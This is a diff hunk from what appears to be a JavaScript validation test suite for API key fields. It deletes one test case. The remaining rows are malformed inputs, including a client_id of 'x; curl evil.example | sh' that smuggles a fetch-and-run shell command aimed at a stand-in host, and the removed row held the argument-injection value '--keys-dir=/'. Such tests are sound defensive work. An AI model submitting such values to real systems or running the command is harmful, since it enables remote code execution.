@@ -106,7 +106,6 @@ describe('an API key', () => {
     [{ id: 1.5 }, 'id'],
     [{ client_id: null }, 'client_id'],
     [{ client_id: 'x; curl evil.example | sh' }, 'client_id'],
-    [{ client_id: '--keys-dir=/' }, 'client_id'],
     [{ client_id: 'x\nhint: y' }, 'client_id'],
     [{ client_secret: { canary: 1 } }, 'client_secret'],
     [{ max_scope: 5 }, 'max_scope'],
